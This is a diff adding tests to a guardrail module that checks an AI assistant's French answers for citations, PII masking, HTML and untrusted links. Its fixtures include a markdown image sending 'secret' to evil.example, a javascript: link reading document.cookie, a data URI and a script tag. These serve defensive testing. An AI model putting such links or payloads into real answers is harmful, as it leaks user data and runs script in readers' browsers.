@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from guardrails.output import AI_DISCLOSURE, check_answer, cited_markers, numbers_in
+from guardrails.output import AI_DISCLOSURE, check_answer, cited_markers, numbers_in, strip_html
 from guardrails.screen import default_guardrails
 
 PASSAGES = {
@@ -47,3 +47,35 @@ def test_pii_in_an_answer_is_masked_again() -> None:
     screened = default_guardrails().screen_answer("Contactez Marie Dupont au 06 12 34 56 78 [1].", PASSAGES)
     assert screened.masked_text == "Contactez <PERSON_1> au <PHONE_1> [1]."
     assert [s.entity for s in screened.pii] == ["PERSON", "PHONE"]
+
+
+def test_images_and_links_to_anything_the_passages_do_not_hold_are_flagged() -> None:
+    passages = {1: "Voir le guide sur https://intranet.example/ia pour la charte."}
+    flagged = [
+        "Voir ![x](http://evil.example/p.png?q=secret) [1].",
+        "Voir [ici](http://evil.example) [1].",
+        "Voir [ici](javascript:alert(document.cookie)) [1].",
+        "Voir <https://evil.example/a> [1].",
+        "Voir data:text/html;base64,PHNjcmlwdD [1].",
+    ]
+    for answer in flagged:
+        assert {i.kind for i in check_answer(answer, passages).issues} == {"link"}, answer
+    assert check_answer("Le guide est sur https://intranet.example/ia [1].", passages).ok
+    assert check_answer("Le comité valide [1]. Puis le CODIR [1][1].", passages).ok
+
+
+def test_a_whole_answer_must_cite_unless_it_is_an_allowed_sentence() -> None:
+    abstain = {"Je ne trouve pas cette information dans le corpus."}
+    check = check_answer("Le comité valide la charte.", PASSAGES, uncited_ok=abstain)
+    assert [i.kind for i in check.issues] == ["no_citation"]
+    assert check_answer("Je ne trouve pas cette information dans le corpus.", PASSAGES, uncited_ok=abstain).ok
+    assert check_answer("Le comité valide la charte.", PASSAGES).ok  # a sentence alone may cite nothing
+
+
+def test_html_is_stripped_but_masked_placeholders_stay() -> None:
+    text, removed = strip_html("<p>Le <b>DPO</b> <PERSON_1> valide</p><script>alert(1)</script><!-- x -->.")
+    assert removed and text == "Le DPO <PERSON_1> valide."
+    assert strip_html("Le seuil est 3 < 5 et <EMAIL_2> reste.") == (
+        "Le seuil est 3 < 5 et <EMAIL_2> reste.",
+        False,
+    )
